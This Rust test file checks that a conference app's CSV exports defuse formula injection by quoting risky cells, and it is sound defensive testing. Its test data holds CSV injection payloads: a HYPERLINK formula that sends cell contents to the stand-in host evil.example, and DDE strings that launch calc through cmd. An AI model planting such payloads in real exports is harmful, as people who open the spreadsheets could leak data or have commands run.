//! CSV exports that are safe to open (issue 10; DESIGN.md section 2; OWASP "CSV Injection"):
//! every export goes through the `csv` crate, and a cell starting with `=`, `+`, `-`, `@`, tab
//! or CR gets a leading `'`, except a plain number or an E.164 phone number.

use std::collections::HashMap;

use serde_json::json;

use conference::export::{ExportKind, export};

use crate::common::TestApp;
use crate::common::fixture::PRESENTER_VIRTUAL;
use crate::common::payments::{app, checkout, initiate};

const ATTACKS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed",
    "\r=Carriage",
];

/// Every row of an export as header -> cell.
async fn rows(app: &TestApp, kind: ExportKind) -> Vec<HashMap<String, String>> {
    let mut out = Vec::new();
    export(&app.pool, kind, &mut out).await.expect("export");
    let mut reader = csv::Reader::from_reader(out.as_slice());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
    reader.records().map(|r| header.iter().cloned().zip(r.unwrap().iter().map(str::to_string)).collect()).collect()
}

fn assert_inert(cell: &str, original: &str) {
    assert_eq!(cell, format!("'{original}"), "a leading quote keeps it text");
}

#[tokio::test]
async fn registrations_escape_formulas_and_keep_numbers() {
    let app = app().await;
    for attack in ATTACKS {
        let mut body = checkout(json!({"plan": "presenter-virtual"}));
        body["name"] = json!(attack);
        let reply = crate::common::payments::post_json(&app, "/api/ccavenue-initiate", &body).await;
        if reply.status.is_success() && !attack.starts_with(char::is_whitespace) {
            continue;
        }
        // Control characters are refused or trimmed on the field; store such a row directly.
        app.exec(&format!(
            "INSERT INTO orders (order_id, kind, item_id, item_title, amount_cents, currency, billing_name, billing_email, created)
             VALUES ('ORD1740816000000X{}', 'plan', '{}', '{}', {}, 'USD', '{}', 'a@example.org', '2025-03-01T08:00:00Z')",
            attack.len(),
            PRESENTER_VIRTUAL.id,
            PRESENTER_VIRTUAL.title,
            PRESENTER_VIRTUAL.cents,
            attack.replace('\'', "''")
        ))
        .await;
    }
    initiate(&app, &checkout(json!({"plan": "presenter-virtual", "phone": "+12025550123"}))).await;
    let rows = rows(&app, ExportKind::Registrations).await;
    for attack in ATTACKS {
        let cell = rows
            .iter()
            .flat_map(|r| r.values())
            .find(|v| v.ends_with(attack))
            .unwrap_or_else(|| panic!("{attack:?} exported"));
        assert_inert(cell, attack);
    }
    let plain = rows
        .iter()
        .find(|r| r["phone"] == "+12025550123")
        .unwrap_or_else(|| panic!("a phone number is kept as is: {rows:?}"));
    assert_eq!(plain["amount"], PRESENTER_VIRTUAL.amount);
}

#[tokio::test]
async fn messages_submissions_and_subscribers_escape_formulas() {
    let app = app().await;
    for (i, attack) in ATTACKS.iter().enumerate() {
        let a = attack.replace('\'', "''");
        app.exec(&format!(
            "INSERT INTO messages (id, name, number, email, country, message, created)
             VALUES ('m{i}', '{a}', '+12025550123', 'm{i}@example.org', '{a}', '{a}', '2025-03-01T08:00:0{i}Z')"
        ))
        .await;
        app.exec(&format!(
            "INSERT INTO subscribers (id, email, created) VALUES ('s{i}', '{a}', '2025-03-01T08:00:0{i}Z')"
        ))
        .await;
    }
    let messages = rows(&app, ExportKind::Messages).await;
    assert_eq!(messages.len(), ATTACKS.len());
    for (row, attack) in messages.iter().zip(ATTACKS) {
        for column in ["name", "country", "message"] {
            assert_inert(&row[column], attack);
        }
        assert_eq!(row["number"], "+12025550123", "a phone number stays a phone number");
    }
    let subscribers = rows(&app, ExportKind::Subscribers).await;
    for (row, attack) in subscribers.iter().zip(ATTACKS) {
        assert_inert(&row["email"], attack);
    }
    // The submissions export shares the writer; its header and an empty table still export.
    assert!(rows(&app, ExportKind::Submissions).await.is_empty());
}
